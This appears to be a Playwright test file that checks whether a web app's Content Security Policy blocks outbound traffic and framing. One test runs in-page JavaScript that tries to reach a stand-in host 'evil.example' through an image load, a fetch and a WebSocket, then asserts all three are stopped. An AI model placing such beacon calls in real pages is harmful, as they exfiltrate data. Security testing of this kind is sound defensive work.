"""What the guard lets a browser load is what the pages need, and nothing else gets out."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser

from tests.browser.driving import open_window

pytestmark = [pytest.mark.browser, pytest.mark.extra]


def test_what_a_hostile_text_would_load_or_send_is_stopped_by_the_browser(browser: Browser, address: str):
    page = open_window(browser)
    page.goto(address)
    outside: list[str] = []
    page.on("requestfinished", lambda request: outside.append(request.url) if "evil" in request.url else None)
    tried = """async () => {
        const image = new Promise(done => {
            const each = new Image(); each.onload = () => done("loaded"); each.onerror = () => done("stopped");
            each.src = "http://evil.example/x.png";
        });
        const sent = fetch("http://evil.example/", {mode: "no-cors"}).then(() => "sent", () => "stopped");
        const socket = new Promise(done => {
            try { const each = new WebSocket("ws://evil.example/"); each.onerror = () => done("stopped"); }
            catch { done("stopped"); }
        });
        const violations = [];
        document.addEventListener("securitypolicyviolation", event => violations.push(event.effectiveDirective));
        const results = await Promise.all([image, sent, socket]);
        await new Promise(done => setTimeout(done, 200));
        return [results, violations];
    }"""
    results, violations = page.evaluate(tried)
    assert results == ["stopped"] * 3
    # Stopped by the policy, and not because nobody is there.
    assert sorted(violations) == ["connect-src", "connect-src", "img-src"]
    assert not outside
    page.context.close()


def test_no_other_page_shows_this_one_in_itself(browser: Browser, address: str):
    page = open_window(browser)
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.set_content(f"<iframe src='{address}'></iframe>")
    assert page.frames[1].locator("[data-testid=stApp]").count() == 0
    page.context.close()
